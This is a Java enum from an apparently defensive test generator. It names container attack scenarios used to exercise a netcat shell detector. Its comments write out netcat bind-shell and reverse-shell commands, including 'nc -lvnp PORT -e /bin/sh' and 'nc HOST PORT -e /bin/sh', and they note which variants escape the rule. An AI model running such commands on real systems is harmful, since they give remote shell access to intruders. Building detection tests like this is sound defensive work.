package io.ncwatch.generate;

import java.util.Arrays;
import java.util.stream.Collectors;

/** The attack scenarios the generator can play inside one container, by their command-line names. */
public enum Scenario {
    /** {@code nc -lvnp PORT -e /bin/sh} or {@code ncat --listen PORT --sh-exec}: listener, connection, shell. */
    BIND_SHELL("bind-shell"),
    /** A listener that nothing connects to. */
    LISTENER_ONLY("listener-only"),
    /** Listener then shell, with no network events (fleets with Defend for Containers data only). */
    LISTENER_SHELL_NO_NETWORK("listener-shell-no-network"),
    /** {@code nc HOST PORT -e /bin/sh}: connects out, is not a listener, matches no rule. */
    REVERSE_SHELL("reverse-shell"),
    /** {@code busybox nc -lp PORT -e sh}: listener, connection, shell. */
    BUSYBOX("busybox"),
    /** {@code timeout 60 nc -l -p PORT}: the netcat name appears only in the wrapper's arguments. */
    WRAPPER("wrapper"),
    /** A bind shell whose events reach the stream shuffled within {@link FleetGenerator#SHUFFLE_BOUND}. */
    OUT_OF_ORDER("out-of-order"),
    /** A bind shell whose connection and shell reach the stream {@link FleetGenerator#LATENESS} late. */
    LATE("late");

    private final String cliName;

    Scenario(String cliName) {
        this.cliName = cliName;
    }

    public String cliName() {
        return cliName;
    }

    public static Scenario fromCliName(String name) {
        for (Scenario s : values()) {
            if (s.cliName.equals(name)) {
                return s;
            }
        }
        throw new IllegalArgumentException("unknown scenario '" + name + "'; known: " + names());
    }

    public static String names() {
        return Arrays.stream(values()).map(Scenario::cliName).collect(Collectors.joining(", "));
    }
}
